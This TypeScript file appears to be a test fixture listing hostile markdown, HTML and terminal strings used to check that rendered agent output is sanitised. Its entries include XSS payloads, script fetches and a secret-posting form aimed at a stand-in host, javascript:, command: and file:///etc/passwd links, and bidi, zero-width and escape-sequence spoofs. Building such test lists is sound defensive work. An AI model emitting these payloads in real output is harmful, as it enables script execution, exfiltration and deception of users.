/**
 * What an agent may print to harm whoever looks: markup that runs, links that act, pictures that tell, sequences that move
 * a cursor, letters that run backwards or cannot be seen. Each would be noticed: a request, a violation of a policy, an
 * element that is not to be there.
 */
export const hostileMarkdown = [
  `<script>fetch("https://spool.invalid/script")</script>`,
  `<img src="https://spool.invalid/html.png" onerror="document.title = 'broken into'">`,
  `![picture](https://spool.invalid/markdown.png)`,
  `<iframe src="https://spool.invalid/frame"></iframe><object data="https://spool.invalid/object"></object>`,
  `<style>* { display: none !important; background: url(https://spool.invalid/style) }</style>`,
  `<link rel="stylesheet" href="https://spool.invalid/link.css"><base href="https://spool.invalid/">`,
  `<svg onload="document.title = 'broken into'"><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form action="https://spool.invalid/form"><input name="secret" autofocus><button>Approve</button></form>`,
  `<a href="javascript:alert(1)">html link</a> <a href="command:workbench.action.terminal.new">html command</a>`,
  `[command](command:workbench.action.terminal.new) [script](javascript:alert(1)) [data](data:text/html,<script>1</script>)`,
  `[editor](vscode://spool.spool/pair?address=http://127.0.0.1:1&token=x) [file](file:///etc/passwd)`,
  `<https://spool.invalid/autolink> and www.spool.invalid and https://spool.invalid/bare`,
  `<div style="position: fixed; inset: 0; background: red; z-index: 99999">over everything</div>`,
  `<spool-button onclick="alert(1)">Approve</spool-button>`,
  "```html\n<script>fetch('https://spool.invalid/code')</script>\n```",
].join("\n\n");

/** In one line: a name, a title, a command. */
export const hostileLine =
  `<img src=x onerror=alert(1)> [click](command:workbench.action.terminal.new) $(bug) ` +
  `\u202egnp.exe\u202c a\u200bb\u2066c\u2069 \u001b[31mred\u001b[0m \u001b]8;;https://spool.invalid/osc\u0007link\u001b]8;;\u0007`;

/** A path that a file system takes. */
export const hostilePath = `src/\u202egnp.<img src=x onerror=alert(1)> $(bug) \u200b[x](command:y).txt`;
